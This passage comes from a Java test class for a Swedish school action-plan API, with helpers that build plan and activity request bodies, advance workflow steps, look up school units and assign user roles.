  private static Map<String, Object> localPlan(String year, String unit) {
    Map<String, Object> body = new HashMap<>();
    body.put("kind", "LOCAL");
    body.put("schoolYear", year);
    body.put("unitId", unit);
    body.put("title", "Lokal handlingsplan " + year);
    body.put("summary", "Så arbetar vi med strategin");
    return body;
  }

  private static Map<String, Object> withKind(Map<String, Object> body, String kind) {
    body.put("kind", kind);
    return body;
  }

  private static Map<String, Object> activityBody(String title) {
    Map<String, Object> body = new HashMap<>();
    body.put("priorityAreaId", area);
    body.put("goalIds", goal == null ? List.of() : List.of(goal));
    body.put("title", title);
    body.put("description", "Beskrivning");
    body.put("targetLevels", List.of("larare"));
    body.put("targetUnitIds", List.of(school));
    body.put("targetNote", "Alla pedagoger");
    body.put("owner", "rektor.botkyrka");
    body.put("startsOn", LocalDate.now(Clocks.SWEDEN).toString());
    body.put("dueOn", LocalDate.now(Clocks.SWEDEN).plusMonths(6).toString());
    body.put("successCriteria", "Alla har genomfört");
    return body;
  }

  private static Map<String, Object> withVersion(Map<String, Object> body, long version) {
    body.put("version", version);
    return body;
  }

  private static JsonNode created(Api api, Map<String, Object> plan) {
    Answer a = api.post("plans", plan);
    assertEquals(201, a.status(), a.raw());
    return a.body();
  }

  private static JsonNode addActivity(Api api, String plan, String title) {
    Answer a = api.post("plans/" + plan + "/activities", activityBody(title));
    assertEquals(201, a.status(), a.raw());
    return a.body();
  }

  private static long version(Api api, String plan) {
    return api.get("plans/" + plan).body().get("version").asLong();
  }

  private static Answer step(Api api, String plan, String step, long version, String comment) {
    Map<String, Object> body = new HashMap<>();
    body.put("step", step);
    body.put("version", version);
    if (comment != null) {
      body.put("comment", comment);
    }
    return api.post("plans/" + plan + "/steps", body);
  }

  private static String unitNamed(Api admin, String name) {
    for (JsonNode u : admin.get("units?limit=500").body().get("items")) {
      if (u.get("name").asText().equals(name)) {
        return u.get("id").asText();
      }
    }
    throw new AssertionError("no unit " + name);
  }

  private static String otherSchool(Api admin) {
    for (JsonNode u : admin.get("units?limit=500").body().get("items")) {
      if (u.get("type").asText().equals("SCHOOL_UNIT") && !u.get("id").asText().equals(school)) {
        return u.get("id").asText();
      }
    }
    throw new AssertionError("no second school");
  }

  private static void assign(Api admin, String username, String level, String unit) {
    Map<String, Object> body = new HashMap<>();
    body.put("username", username);
    body.put("level", level);
    body.put("unitId", unit);
    body.put("from", LocalDate.now(Clocks.SWEDEN).minusDays(1).toString());
    Answer a = admin.post("role-assignments", body);
    assertEquals(201, a.status(), a.raw());
  }
}
